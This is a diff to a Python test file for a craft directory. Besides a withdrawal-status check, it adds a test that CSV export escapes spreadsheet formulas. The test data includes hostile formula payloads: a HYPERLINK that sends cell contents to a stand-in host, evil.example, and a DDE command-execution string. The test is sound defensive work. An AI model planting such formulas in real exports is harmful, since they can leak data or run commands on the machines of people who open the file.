@@ -8,6 +8,7 @@ from craft_directory.directory import (
     filter_counts,
     initials,
     is_published,
+    is_withdrawn,
     profile_from_data,
     sort_key,
 )
@@ -29,6 +30,8 @@ def test_consent_decides_what_is_published():
     assert is_published(data())
     assert not is_published(data(status="withdrawn"))
     assert not is_published(data(consent={"date": "2026-01-01", "scope": ["foto", "badge"]}))
+    assert is_withdrawn(data(status="withdrawn"))
+    assert not is_withdrawn(data(consent={"date": "2026-01-01", "scope": ["foto", "badge"]}))  # never published
 
 
 def test_photo_needs_foto_consent_and_email_needs_contact_public():
@@ -211,3 +214,26 @@ def test_profile_slugs_cannot_take_the_directory_own_addresses():
     segments = {url.removeprefix(base).split("/")[0] for url in used}
     assert all(url.startswith(base) for url in used)
     assert segments == RESERVED_PROFILE_SLUGS
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Klik")', "+31 6 12345678", "-2+3", "@SUM(A1:A9)",
+            "\t=1", "\r=1", " =1+1", "\u00a0\t-1", "\uff1dCMD()", "=cmd|' /C calc'!A0"]
+
+
+def test_csv_neutralises_spreadsheet_formulas_and_json_stays_exact():
+    gids = directory()
+    data_rows = rows(gids.profiles, {"smeden": "Smeden"}, {"utrecht": "Utrecht"}, "https://x.test")
+    template = data_rows[0]
+    hostile = []
+    for index, formula in enumerate(FORMULAS):
+        hostile.append({**template, "id": f"p{index}", "naam": formula, "kernzin": formula, "plaats": formula})
+    hostile.append({**template, "id": "gewoon", "naam": "Anna - smid", "kernzin": "1 + 1 = 2", "plaats": "'s-Hertogenbosch"})
+    parsed = list(csv.DictReader(io.StringIO(to_csv(hostile), newline="")))
+    for row, formula in zip(parsed, FORMULAS, strict=False):
+        for column in ("naam", "kernzin", "plaats"):
+            assert row[column] == "'" + formula, (column, row[column])
+            assert row[column][0] == "'"
+    ordinary = parsed[-1]
+    assert (ordinary["naam"], ordinary["kernzin"], ordinary["plaats"]) == ("Anna - smid", "1 + 1 = 2", "'s-Hertogenbosch")
+    assert ordinary["actief_sinds"] == str(template["actief_sinds"] or "")
+    assert [r["naam"] for r in json.loads(to_json(hostile))[:len(FORMULAS)]] == FORMULAS
